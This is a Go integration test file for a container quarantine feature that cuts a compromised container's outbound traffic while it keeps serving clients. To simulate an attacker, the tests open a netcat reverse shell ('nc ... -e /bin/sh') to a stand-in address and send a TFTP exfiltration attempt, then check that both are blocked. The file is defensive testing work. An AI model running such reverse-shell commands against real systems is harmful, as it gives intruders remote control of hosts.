package quarantine_test

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	"github.com/vishvananda/netlink"

	"github.com/ironpost/ironpost/internal/docker"
	"github.com/ironpost/ironpost/internal/testenv"
	"github.com/ironpost/ironpost/services/containerguard/quarantine"
)

// world is a dockerd in the network namespace of the test, with a network of both families and an attacker's address.
type world struct {
	*guard

	attacker net.Listener   // 203.0.113.9:4444
	udp      net.PacketConn // 203.0.113.9:5353
	received chan string    // by udp
}

const attackerAddress = "203.0.113.9"

func newWorld(t *testing.T) *world {
	t.Helper()
	d := testenv.DockerdHere(t)
	ip(t, "link", "set", "lo", "up")
	ip(t, "address", "add", attackerAddress+"/32", "dev", "lo")
	t.Cleanup(func() { ip(t, "address", "del", attackerAddress+"/32", "dev", "lo") })
	d.Do(t, "POST", "/networks/create", map[string]any{"Name": "shop", "EnableIPv6": true, "IPAM": map[string]any{
		"Config": []map[string]string{{"Subnet": "10.77.0.0/24", "Gateway": "10.77.0.1"}, {"Subnet": "fd77::/64", "Gateway": "fd77::1"}},
	}}, nil)
	t.Cleanup(func() { d.Do(t, "DELETE", "/networks/shop", nil, nil) }) // its bridge outlives dockerd
	w := &world{guard: newGuard(t, d, nil), received: make(chan string, 16)}
	w.run(t)
	var err error
	w.attacker, err = net.Listen("tcp", "[::]:4444")
	require.NoError(t, err)
	w.udp, err = net.ListenPacket("udp", attackerAddress+":5353")
	require.NoError(t, err)
	go func() {
		b := make([]byte, 512)
		for {
			n, _, err := w.udp.ReadFrom(b)
			if err != nil {
				return
			}
			w.received <- strings.TrimSpace(string(b[:n]))
		}
	}()
	t.Cleanup(func() { require.NoError(t, w.udp.Close()); require.NoError(t, w.attacker.Close()) })
	return w
}

func ip(t *testing.T, args ...string) {
	t.Helper()
	out, err := exec.Command("ip", args...).CombinedOutput() // also in cleanups
	require.NoError(t, err, "%s", out)
}

// runServer starts a container with a web server on port 80 and one that echoes on 9000, both published.
func (w *world) runServer(t *testing.T, o testenv.ContainerOptions) string {
	t.Helper()
	o.Network = "shop"
	o.Publish = map[string]string{"80/tcp": "127.0.0.1:8080", "9000/tcp": "127.0.0.1:9000"}
	o.Cmd = []string{"/bin/sh", "-c", "echo hello >/tmp/index.html; nc -ll -p 9000 -e /bin/cat & exec httpd -f -p 80 -h /tmp"}
	id := w.docker.Run(t, o)
	t.Cleanup(func() { w.docker.Remove(t, id) })
	require.Eventually(t, func() bool { return w.serves(t) }, 10*time.Second, 20*time.Millisecond)
	return id
}

// serves reports whether the published port answers.
func (w *world) serves(t *testing.T) bool {
	t.Helper()
	client := http.Client{Timeout: 2 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
	r, err := client.Get("http://127.0.0.1:8080/index.html")
	if err != nil {
		return false
	}
	defer func() { _ = r.Body.Close() }()
	text, err := io.ReadAll(r.Body)
	return err == nil && string(text) == "hello\n"
}

// connects reports whether the container can connect to an address.
func (w *world) connects(t *testing.T, id, address string) bool {
	t.Helper()
	return strings.Contains(w.docker.Exec(t, id, "sh", "-c", fmt.Sprintf("nc -w 2 %s 4444 -e /bin/true && echo connected", address)), "connected")
}

// sendDatagram has the container ask the attacker for a file by TFTP.
func (w *world) sendDatagram(t *testing.T, id, file string) {
	t.Helper()
	w.docker.Exec(t, id, "timeout", "1", "tftp", "-g", "-r", file, attackerAddress, "5353")
}

func (w *world) cutBy(t *testing.T, id string) bool {
	t.Helper()
	return !w.connects(t, id, attackerAddress) && !w.connects(t, id, "10.77.0.1")
}

// echoes reports whether a line comes back over a connection.
func echoes(t *testing.T, c net.Conn, line string) bool {
	t.Helper()
	require.NoError(t, c.SetDeadline(time.Now().Add(5*time.Second)))
	_, err := fmt.Fprintln(c, line)
	require.NoError(t, err)
	got, err := bufio.NewReader(c).ReadString('\n')
	return err == nil && got == line+"\n"
}

func TestCutEgressServesOnAndBeginsNothing(t *testing.T) {
	w := newWorld(t)
	id := w.runServer(t, testenv.ContainerOptions{Name: "web"})
	neighbour := w.docker.Run(t, testenv.ContainerOptions{Name: "db", Network: "shop", Cmd: []string{"/bin/sh", "-c", "exec nc -ll -p 4444 -e /bin/cat"}})
	t.Cleanup(func() { w.docker.Remove(t, neighbour) })
	client, err := net.Dial("tcp", "127.0.0.1:9000")
	require.NoError(t, err)
	defer func() { _ = client.Close() }()
	require.True(t, echoes(t, client, "before"))
	targets := []string{attackerAddress, "10.77.0.1", "fd77::1", "db"}
	for _, target := range targets {
		require.Eventually(t, func() bool { return w.connects(t, id, target) }, 10*time.Second, 50*time.Millisecond, target)
	}

	// A reverse shell, from a port on which the container listens itself.
	go func() { w.docker.Exec(t, id, "nc", attackerAddress, "4444", "-e", "/bin/sh") }()
	shell := w.reverseShell(t)

	began := time.Now()
	require.NoError(t, w.manager.Apply(t.Context(), w.order(id, quarantine.CutEgress)))
	t.Logf("cut after %v, with evidence after %v", time.Duration(w.actions[1].DurationMS)*time.Millisecond, time.Since(began))
	e, held := w.manager.Get(id)
	require.True(t, held)
	require.Equal(t, quarantine.Held, e.State, e.Error)
	require.Equal(t, []string{"cut-egress intended", "cut-egress done"}, w.phases())

	require.True(t, w.serves(t), "new requests are served")
	require.True(t, echoes(t, client, "after"), "a connection of a client goes on")
	_, _ = fmt.Fprintln(shell, "touch /tmp/owned")
	require.NoError(t, shell.SetReadDeadline(time.Now().Add(5*time.Second)))
	_, err = io.ReadAll(shell)
	t.Log("reverse shell:", err)
	require.NotContains(t, w.docker.Exec(t, id, "ls", "/tmp"), "owned", "the reverse shell gets no more orders")
	for _, target := range targets {
		began := time.Now()
		require.False(t, w.connects(t, id, target), target)
		require.Less(t, time.Since(began), 2*time.Second, "%s: it is refused, not lost", target)
	}
	require.NotContains(t, w.docker.Exec(t, id, "nslookup", "db"), "10.77.0.", "no name is asked")
	w.sendDatagram(t, id, "stolen")
	require.False(t, strings.Contains(w.docker.Exec(t, id, "ping", "-c", "1", "-W", "1", attackerAddress), "1 packets received"))

	w.release(t, id)
	require.True(t, w.connects(t, id, attackerAddress))
	require.Eventually(t, func() bool { return w.connects(t, id, "db") }, 10*time.Second, 50*time.Millisecond)
	w.sendDatagram(t, id, "allowed")
	require.Contains(t, <-w.received, "allowed", "and nothing before it")
	require.True(t, echoes(t, client, "released"))
	require.Empty(t, qdiscs(t), "nothing is left")
}

// reverseShell accepts the container's connection to the attacker.
func (w *world) reverseShell(t *testing.T) net.Conn {
	t.Helper()
	for {
		c, err := w.attacker.Accept()
		require.NoError(t, err)
		require.NoError(t, c.SetDeadline(time.Now().Add(5*time.Second)))
		_, _ = fmt.Fprintln(c, "echo $((40+2))")
		if line, err := bufio.NewReader(c).ReadString('\n'); err == nil && line == "42\n" {
			return c
		}
		_ = c.Close() // of connects
	}
}

// qdiscs lists the interfaces that have a queueing discipline for packet programs.
func qdiscs(t *testing.T) (out []string) {
	t.Helper()
	all, err := netlink.QdiscList(nil)
	require.NoError(t, err)
	for _, q := range all {
		if q.Type() == "clsact" {
			link, err := netlink.LinkByIndex(q.Attrs().LinkIndex)
			require.NoError(t, err)
			out = append(out, link.Attrs().Name)
		}
	}
	return out
}

func TestCutEgressIsReapplied(t *testing.T) {
	w := newWorld(t)
	other := w.docker.Network(t, "other", "10.78.0.0/24")
	t.Cleanup(func() { w.docker.Do(t, "DELETE", "/networks/other", nil, nil) })
	id := w.runServer(t, testenv.ContainerOptions{Restart: "always", Host: map[string]any{"CapAdd": []string{"NET_ADMIN"}}})
	require.NoError(t, w.manager.Apply(t.Context(), w.order(id, quarantine.CutEgress)))
	require.True(t, w.cutBy(t, id))
	for name, undo := range map[string]func(t *testing.T){
		"a person removes the programs": func(t *testing.T) {
			for _, name := range qdiscs(t) {
				require.NoError(t, exec.CommandContext(t.Context(), "tc", "qdisc", "del", "dev", name, "clsact").Run())
			}
		},
		"it is connected to another network": func(t *testing.T) {
			w.docker.Do(t, "POST", "/networks/"+other+"/connect", map[string]string{"Container": id}, nil)
		},
		"it is restarted": func(t *testing.T) { w.docker.Do(t, "POST", "/containers/"+id+"/restart?t=0", nil, nil) },
		"it removes the route to the name server": func(t *testing.T) {
			w.docker.Exec(t, id, "ip", "route", "del", "prohibit", "127.0.0.11", "table", "local")
		},
	} {
		t.Run(name, func(t *testing.T) {
			before, _ := w.manager.Get(id)
			undo(t)
			require.Eventually(t, func() bool {
				e, _ := w.manager.Get(id)
				return e.Reapplied > before.Reapplied && e.Error == ""
			}, 5*time.Second, 10*time.Millisecond)
			require.True(t, w.cutBy(t, id))
			require.False(t, w.connects(t, id, "10.78.0.1"))
			require.Eventually(t, func() bool { return w.serves(t) }, 5*time.Second, 20*time.Millisecond)
		})
	}
	t.Run("it takes another address", func(t *testing.T) {
		w.docker.Exec(t, id, "sh", "-c", "ip address add 10.77.0.99/24 dev eth0; ip route replace default via 10.77.0.1 src 10.77.0.99")
		require.True(t, w.cutBy(t, id), "what it is called by itself does not matter")
	})
	t.Run("dockerd is restarted", func(t *testing.T) {
		w.docker.Kill(t)
		w.docker.Start(t)
		require.Eventually(t, func() bool { return w.inspect(t, id).Running && w.cutBy(t, id) }, 20*time.Second, 50*time.Millisecond)
		w.docker.Stop(t)
		w.docker.Start(t)
		require.Eventually(t, func() bool { return w.inspect(t, id).Running && w.cutBy(t, id) }, 20*time.Second, 50*time.Millisecond)
		require.True(t, w.serves(t))
	})
	t.Run("then it is isolated, and released", func(t *testing.T) {
		require.NoError(t, w.manager.Apply(t.Context(), w.order(id, quarantine.Isolate)))
		require.True(t, w.isolated(t, id))
		require.NoError(t, w.manager.Apply(t.Context(), later(w.order(id, quarantine.CutEgress), 2)))
		w.release(t, id)
		require.True(t, w.connects(t, id, attackerAddress))
		require.Empty(t, qdiscs(t))
		require.NotContains(t, w.docker.Exec(t, id, "ip", "route", "show", "table", "local"), "prohibit")
	})
}

func TestCutEgressSurvivesTheGuardKilledAtItsSteps(t *testing.T) {
	w := newWorld(t)
	id := w.runServer(t, testenv.ContainerOptions{Restart: "always"})
	w.dir = t.TempDir()
	before := w.inspect(t, id)
	for _, step := range []quarantine.Step{quarantine.StepCutEgress, quarantine.StepHeld} {
		require.True(t, killAt(t, w.docker, w.dir, string(quarantine.CutEgress), id, step), step)
		w.restart(t, func(m *quarantine.Manager) bool {
			e, _ := m.Get(id)
			return e.State == quarantine.Held
		})
		require.True(t, w.cutBy(t, id))
		require.True(t, w.serves(t))
		require.True(t, killAt(t, w.docker, w.dir, "release", id, quarantine.StepRestoreEgress))
		w.restart(t, func(m *quarantine.Manager) bool { return len(m.List()) == 0 })
		require.True(t, w.connects(t, id, attackerAddress))
		require.Empty(t, qdiscs(t))
		require.Equal(t, restorable(before), restorable(w.inspect(t, id)))
		w.dir = t.TempDir() // an order that was released is not applied again
	}
}

func TestCutEgressIsRefusedWhereItCannotHold(t *testing.T) {
	w := newWorld(t)
	owner := w.docker.Run(t, testenv.ContainerOptions{Name: "owner"})
	for _, c := range []struct{ network, reason string }{
		{"host", "uses the host's network"},
		{"container:" + owner, "uses the network of container"},
	} {
		id := w.docker.Run(t, testenv.ContainerOptions{Network: c.network})
		require.NoError(t, w.manager.Apply(t.Context(), w.order(id, quarantine.CutEgress)))
		e, _ := w.manager.Get(id)
		require.Equal(t, quarantine.Partial, e.State)
		require.ErrorContains(t, fmt.Errorf("%s", e.Error), c.reason)
		w.release(t, id)
	}

	// A guard in another network namespace than the host's has no end of the interface.
	d := testenv.Dockerd(t)
	g := newGuard(t, d, nil)
	id := d.Run(t, testenv.ContainerOptions{})
	require.NoError(t, g.manager.Apply(t.Context(), g.order(id, quarantine.CutEgress)))
	e, _ := g.manager.Get(id)
	require.Equal(t, quarantine.Partial, e.State)
	require.Contains(t, e.Error, docker.ErrForbidden.Error())
	require.Contains(t, e.Error, "this host has 0 interfaces for the 1 networks")
}
